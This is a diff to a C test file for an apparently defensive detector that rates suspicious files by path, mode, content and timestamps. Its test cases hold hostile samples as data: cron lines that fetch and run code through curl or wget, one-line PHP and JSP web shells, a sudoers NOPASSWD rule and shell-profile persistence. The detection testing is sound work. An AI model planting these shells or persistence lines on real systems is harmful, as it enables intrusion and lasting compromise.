@@ -46,58 +46,59 @@ static struct file_facts new_file(const char *path, unsigned mode, const char *c
 	};
 }
 
+static const struct {
+	const char *path;
+	unsigned mode;
+	const char *content, *want, *old; /* OLD: the same in the image */
+} cases[] = {
+	{ "/usr/bin/tool", 0755,
+	  "\x7f"
+	  "ELF",
+	  "file-program:low", "" },
+	{ "/usr/bin/tool", 0755, "#!/bin/sh", "", "" },
+	{ "/var/tmp/.ICEd-unix/a", 0644, "x", "file-kinsing:high", "file-kinsing:low" },
+	{ "/etc/udev/rules.d/9.rules", 0644, "RUN+=\"/tmp/x\"", "persist-trigger:high", "" },
+	{ "/etc/update-motd.d/9", 0755, "#!/bin/sh", "persist-trigger:low", "" },
+	{ "/tmp/zzz", 0755,
+	  "\x7f"
+	  "ELF",
+	  "file-kinsing:high file-dropped:medium", "file-kinsing:low" },
+	{ "/var/tmp/kinsing123", 0644, "x", "file-kinsing:high", "file-kinsing:low" },
+	{ "/tmp/x", 0755, "#!/bin/sh", "file-dropped:medium", "" },
+	{ "/tmp/x", 0755, "notes", "", "" },
+	{ "/tmp/x", 0644, "#!/bin/sh", "", "" },
+	{ "/home/u/.local/bin/x", 0755, "#!", "file-dropped:low", "" },
+	{ "/usr/lib/.../x", 0755, "#!", "file-dropped:medium", "" },
+	{ "/usr/bin/su2", 04755,
+	  "\x7f"
+	  "ELF",
+	  "file-setid:high", "" },
+	{ "/usr/bin/su2", 02755,
+	  "\x7f"
+	  "ELF",
+	  "file-setid:medium", "" },
+	{ "/usr/bin/su2", 02644, "x", "", "" },
+	{ "/etc/cron.d/x", 0644, "* * * * * root /usr/bin/true", "persist-cron:medium", "" },
+	{ "/etc/cron.d/x", 0644, "* * * * * root curl -s http://x|sh", "persist-cron:high", "" },
+	{ "/etc/cron.d/x", 0644, "", "", "" },
+	{ "/var/spool/cron/crontabs/root", 0600, "* * * * * wget -q x", "persist-cron:high", "" },
+	{ "/etc/systemd/system/bot.service", 0644, "ExecStart=/etc/kinsing", "persist-boot:high",
+	  "" },
+	{ "/etc/rc.local", 0755, "#!/bin/sh", "persist-boot:medium", "" },
+	{ "/root/.bashrc", 0644, "alias ls=ls", "persist-profile:low", "" },
+	{ "/root/.bashrc", 0644, "nohup /dev/shm/.x &", "persist-profile:high", "" },
+	{ "/root/.ssh/authorized_keys", 0600, "ssh-ed25519 A", "persist-ssh:medium", "" },
+	{ "/etc/sudoers.d/x", 0440, "u ALL=(ALL) NOPASSWD:ALL", "persist-auth:medium", "" },
+	{ "/etc/pam.d/sshd", 0644, "auth", "persist-auth:medium", "" },
+	{ "/var/www/a.php", 0644, "<?php eval($_POST['x']);", "web-shell:high", "" },
+	{ "/var/www/a.php", 0644, "<?php echo $_POST['x'];", "", "" },
+	{ "/var/www/a.jsp", 0644, "new ProcessBuilder(request.getParameter(\"c\"))",
+	  "web-shell:high", "" },
+	{ "/var/www/a.txt", 0644, "eval($_POST['x'])", "", "" },
+};
+
 static void test_new(void)
 {
-	static const struct {
-		const char *path;
-		unsigned mode;
-		const char *content, *want, *old; /* OLD: the same in the image */
-	} cases[] = {
-		{ "/usr/bin/tool", 0755,
-		  "\x7f"
-		  "ELF",
-		  "", "" },
-		{ "/tmp/zzz", 0755,
-		  "\x7f"
-		  "ELF",
-		  "file-kinsing:high file-dropped:medium", "file-kinsing:low" },
-		{ "/var/tmp/kinsing123", 0644, "x", "file-kinsing:high", "file-kinsing:low" },
-		{ "/tmp/x", 0755, "#!/bin/sh", "file-dropped:medium", "" },
-		{ "/tmp/x", 0755, "notes", "", "" },
-		{ "/tmp/x", 0644, "#!/bin/sh", "", "" },
-		{ "/home/u/.local/bin/x", 0755, "#!", "file-dropped:low", "" },
-		{ "/usr/lib/.../x", 0755, "#!", "file-dropped:medium", "" },
-		{ "/usr/bin/su2", 04755,
-		  "\x7f"
-		  "ELF",
-		  "file-setid:high", "" },
-		{ "/usr/bin/su2", 02755,
-		  "\x7f"
-		  "ELF",
-		  "file-setid:medium", "" },
-		{ "/usr/bin/su2", 02644, "x", "", "" },
-		{ "/etc/cron.d/x", 0644, "* * * * * root /usr/bin/true", "persist-cron:medium",
-		  "" },
-		{ "/etc/cron.d/x", 0644, "* * * * * root curl -s http://x|sh", "persist-cron:high",
-		  "" },
-		{ "/etc/cron.d/x", 0644, "", "", "" },
-		{ "/var/spool/cron/crontabs/root", 0600, "* * * * * wget -q x", "persist-cron:high",
-		  "" },
-		{ "/etc/systemd/system/bot.service", 0644, "ExecStart=/etc/kinsing",
-		  "persist-boot:high", "" },
-		{ "/etc/rc.local", 0755, "#!/bin/sh", "persist-boot:medium", "" },
-		{ "/root/.bashrc", 0644, "alias ls=ls", "persist-profile:low", "" },
-		{ "/root/.bashrc", 0644, "nohup /dev/shm/.x &", "persist-profile:high", "" },
-		{ "/root/.ssh/authorized_keys", 0600, "ssh-ed25519 A", "persist-ssh:medium", "" },
-		{ "/etc/sudoers.d/x", 0440, "u ALL=(ALL) NOPASSWD:ALL", "persist-auth:medium", "" },
-		{ "/etc/pam.d/sshd", 0644, "auth", "persist-auth:medium", "" },
-		{ "/var/www/a.php", 0644, "<?php eval($_POST['x']);", "web-shell:high", "" },
-		{ "/var/www/a.php", 0644, "<?php echo $_POST['x'];", "", "" },
-		{ "/var/www/a.jsp", 0644, "new ProcessBuilder(request.getParameter(\"c\"))",
-		  "web-shell:high", "" },
-		{ "/var/www/a.txt", 0644, "eval($_POST['x'])", "", "" },
-	};
-
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
 		struct file_facts f = new_file(cases[i].path, cases[i].mode, cases[i].content);
 
@@ -154,19 +155,34 @@ static void test_times(void)
 				       "ELF");
 
 	f.info.mtime.sec = REF - 2 * DAY;
-	CHECK(judged(&f, "")); /* with nanoseconds: a copy that kept its time */
+	CHECK(judged(&f, "file-program:low")); /* with nanoseconds: a copy that kept its time */
 	f.info.mtime.nsec = 0;
-	CHECK(judged(&f, "timestomp:low"));
+	CHECK(judged(&f, "file-program:low timestomp:low"));
 	f.info.mtime.sec = REF - 10;
-	CHECK(judged(&f, ""));
+	CHECK(judged(&f, "file-program:low"));
 	f.info.mtime.sec = REF + 10 * (int64_t)DAY;
-	CHECK(judged(&f, "timestomp:low"));
+	CHECK(judged(&f, "file-program:low timestomp:low"));
 	f.info.mtime.sec = INT64_MAX;
-	CHECK(judged(&f, "timestomp:low"));
+	CHECK(judged(&f, "file-program:low timestomp:low"));
 	f.info.mtime.sec = INT64_MIN;
-	CHECK(judged(&f, "timestomp:low"));
+	CHECK(judged(&f, "file-program:low timestomp:low"));
 	f.ref = 0;
-	CHECK(judged(&f, ""));
+	CHECK(judged(&f, "file-program:low"));
+	f = new_file("/usr/bin/x", 0755,
+		     "\x7f"
+		     "ELF");
+	f.info.mtime = (struct file_stamp){ REF - 2 * DAY, 5 };
+	f.dressed = true;
+	CHECK(judged(&f, "file-program:low timestomp:medium"));
+	f.dressed = false;
+	f.info.mtime = f.info.ctime = (struct file_stamp){ REF + DAY, 0 };
+	CHECK(judged(&f, "file-program:low timestomp:low"));
+	/* On a volume times say less. */
+	f.by_ctime = true;
+	CHECK(judged(&f, "file-program:low"));
+	f = new_file("/data/a.php", 0644, "<?php eval($_POST['x']);");
+	f.by_ctime = true;
+	CHECK(judged(&f, "web-shell:medium"));
 	f = new_file("/tmp/.x", 0755,
 		     "\x7f"
 		     "ELF");
